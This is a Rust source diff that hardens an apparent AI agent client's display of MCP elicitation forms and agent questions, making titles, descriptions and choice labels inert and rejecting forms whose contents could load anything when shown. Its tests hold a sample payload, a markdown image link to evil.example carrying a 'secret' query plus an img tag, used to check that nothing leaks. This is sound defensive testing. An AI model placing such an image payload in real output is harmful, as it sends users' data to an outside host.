@@ -1,7 +1,8 @@
 //! Forms and pages for the person, by `elicitation/create`, where the client has them. Whatever is no answer counts as none.
 
 use super::peer::Peer;
-use super::permission::MOST;
+use super::permission::{MOST, who_asks};
+use super::update::line;
 use crate::agent::desk::Desk;
 use crate::ids::{ItemId, ThreadId};
 use crate::mcp::untrusted::{is_web, quoted, visible_value};
@@ -55,18 +56,21 @@ pub(super) async fn server(peer: Peer, session: ThreadId, asks: Asks, desk: Arc<
 /// What a server asks, as the client takes it; nothing where that cannot show it, or should not.
 fn params(session: &ThreadId, asks: Asks, server: &str, question: &McpElicitation) -> Option<Value> {
     let notes: String = question.notes.iter().map(|note| format!("\nNote: {note}")).collect();
-    let message = format!(
+    let message = shown::inert(&format!(
         "The MCP server {server} asks, and not Countersign:\n{}{notes}",
         quoted(&question.message)
-    );
+    ));
     let mut params = json!({"sessionId": session, "toolCallId": question.item_id, "message": message});
     let can = match &question.wish {
         McpWish::Form { requested_schema } => {
             params["mode"] = json!("form");
-            params["requestedSchema"] = requested_schema.clone();
+            let mut schema = requested_schema.clone();
+            inert_texts(&mut schema);
             // What is said of fields has been made visible. Their names and values are what the answer is made of and cannot
             // be, and clients show them.
-            asks.forms && visible_value(requested_schema) == *requested_schema
+            let is_plain = visible_value(&schema) == schema && is_inert(&schema);
+            params["requestedSchema"] = schema;
+            asks.forms && is_plain
         }
         McpWish::Url { url, elicitation_id } => {
             params["mode"] = json!("url");
@@ -79,6 +83,43 @@ fn params(session: &ThreadId, asks: Asks, server: &str, question: &McpElicitatio
         }
     };
     (can && params.to_string().len() <= MOST).then_some(params)
+}
+
+/// What is said of the fields of a form loads nothing by being shown.
+fn inert_texts(schema: &mut Value) {
+    match schema {
+        Value::Object(map) => {
+            for (key, value) in map {
+                match (key.as_str(), value) {
+                    ("title" | "description", Value::String(text)) => *text = shown::inert(text),
+                    ("enumNames", Value::Array(names)) => {
+                        for name in names {
+                            if let Value::String(text) = name {
+                                *text = shown::inert(text);
+                            }
+                        }
+                    }
+                    (_, value) => inert_texts(value),
+                }
+            }
+        }
+        Value::Array(list) => list.iter_mut().for_each(inert_texts),
+        _ => {}
+    }
+}
+
+/// Whether nothing in a form would be loaded by being shown. A pattern is for programs, and shown by none.
+fn is_inert(schema: &Value) -> bool {
+    let is_plain = |text: &str| shown::inert(text) == text;
+    match schema {
+        Value::String(text) => is_plain(text),
+        Value::Array(list) => list.iter().all(is_inert),
+        Value::Object(map) => map.iter().all(|(key, value)| {
+            let is_pattern = key == "pattern" && value.is_string();
+            is_plain(key) && (is_pattern || is_inert(value))
+        }),
+        _ => true,
+    }
 }
 
 /// Asks; null for what is no answer.
@@ -105,21 +146,23 @@ fn response(answer: &Value) -> McpElicitationResponse {
 
 /// What the model asks, as one form: choices, and words where those can answer.
 pub(super) async fn questions(peer: Peer, session: ThreadId, desk: Arc<Desk>, request: UserInputRequest) {
-    let agent = request.agent.as_deref();
-    let agent = agent.map(|name| format!("The agent {} asks. ", shown::line(name)));
+    let who = who_asks(request.agent.as_deref());
     let message = match request.questions.as_slice() {
-        [one] => shown::line(&one.question),
-        more => more
-            .iter()
-            .map(|question| format!("{}: {}", shown::line(&question.header), shown::line(&question.question)))
-            .collect::<Vec<_>>()
-            .join("\n"),
+        [one] => format!("{who}: {}", line(&one.question)),
+        more => {
+            let each = more
+                .iter()
+                .map(|question| format!("{}: {}", line(&question.header), line(&question.question)));
+            // Marked line by line: none of it passes for one of ours. Two that load nothing may do so together.
+            let each = quoted(&each.collect::<Vec<_>>().join("\n"));
+            shown::inert(&format!("{who}:\n{each}"))
+        }
     };
     let params = json!({
         "sessionId": session,
         "toolCallId": request.item_id,
         "mode": "form",
-        "message": format!("{}{message}", agent.unwrap_or_default()),
+        "message": message,
         "requestedSchema": {"type": "object", "properties": properties(&request.questions)},
     });
     if params.to_string().len() > MOST {
@@ -135,11 +178,11 @@ pub(super) async fn questions(peer: Peer, session: ThreadId, desk: Arc<Desk>, re
 fn properties(questions: &[UserQuestion]) -> Value {
     let mut properties = Map::new();
     for (at, question) in questions.iter().enumerate() {
-        let (header, text) = (shown::line(&question.header), shown::line(&question.question));
+        let (header, text) = (line(&question.header), line(&question.question));
         let each = question.options.iter().enumerate();
         let mut choices: Vec<Value> = each
             .map(|(number, choice)| {
-                let (title, description) = (shown::line(&choice.label), shown::line(&choice.description));
+                let (title, description) = (line(&choice.label), line(&choice.description));
                 json!({"const": number.to_string(), "title": title, "description": description})
             })
             .collect();
@@ -283,6 +326,12 @@ mod tests {
             "The MCP server s asks, and not Countersign:\n> Sign in"
         );
         assert!(asked(page("http://127.0.0.1:7/"), "?").is_some());
+        const IMAGE: &str = "![p](https://evil.example/p.png?q=secret) <img src=x>";
+        let loads = json!({"name": {"type": "string", "title": IMAGE, "description": IMAGE, "pattern": "[a-z](?:x){2}",
+            "oneOf": [{"const": "a", "title": IMAGE}], "enumNames": [IMAGE]}});
+        let shown = asked(form(loads), IMAGE).expect("a form").to_string();
+        assert!(shown.contains("evil.example") && !shown.contains("](https"), "{shown}");
+        assert!(!shown.contains(" <img"), "{shown}");
         assert!(asked(form(json!({"name": {"type": "string", "enum": ["a", "b"]}})), "?").is_some());
         let long = json!({"x".repeat(MOST): {"type": "string"}});
         let choices = |value: &str| json!({"name": {"type": "string", "oneOf": [{"const": value, "title": "Yes"}]}});
@@ -294,6 +343,10 @@ mod tests {
             (page("nonsense"), "?"),
             (form(json!({"na\u{200b}me": {"type": "string"}})), "?"),
             (form(choices("ye\u{e0041}s")), "?"),
+            (form(choices(IMAGE)), "?"),
+            (form(json!({(IMAGE): {"type": "string"}})), "?"),
+            (form(json!({"name": {"type": "string", "default": IMAGE}})), "?"),
+            (form(json!({"pattern": {"type": "string", "default": IMAGE}})), "?"),
             (form(json!({"name": {"type": "string", "default": "\u{202e}x"}})), "?"),
             (form(long), "?"),
             (form(json!({})), "long ".repeat(MOST).as_str()),
